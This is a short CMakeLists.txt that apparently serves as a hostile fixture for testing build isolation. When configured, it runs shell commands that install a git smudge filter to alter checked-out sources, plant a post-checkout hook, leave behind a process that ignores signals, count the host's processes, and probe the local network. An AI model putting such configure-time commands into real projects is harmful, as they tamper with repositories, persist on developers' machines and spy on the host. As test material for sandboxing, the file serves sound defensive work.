# What a malicious CMakeLists.txt tries, as the account that compiles: change what the next pin is made from, leave a
# process behind, see the processes of others, reach the network. Included by a tag of the tiny project and of the imitation.
execute_process(
    COMMAND
        sh -c
        "git config filter.x.smudge 'sed -e s/tiny/evil/ -e s/imitation/evil/'
         common=$(git rev-parse --git-common-dir)
         mkdir -p $common/info; echo '* filter=x' > $common/info/attributes
         printf '#!/bin/sh\\ntouch /var/tmp/hook-ran\\n' > $common/hooks/post-checkout; chmod +x $common/hooks/post-checkout
         git config core.hooksPath $common/hooks
         setsid sh -c 'trap \"\" TERM HUP INT; exec sleep 98765' > /dev/null 2>&1 &
         ls /proc | grep -c '^[0-9]' > /var/tmp/hostile-processes
         true"
    WORKING_DIRECTORY ${CMAKE_SOURCE_DIR})
execute_process(
    COMMAND bash -c "(echo > /dev/tcp/127.0.0.1/22) 2> /dev/null && touch /var/tmp/hostile-network; true")
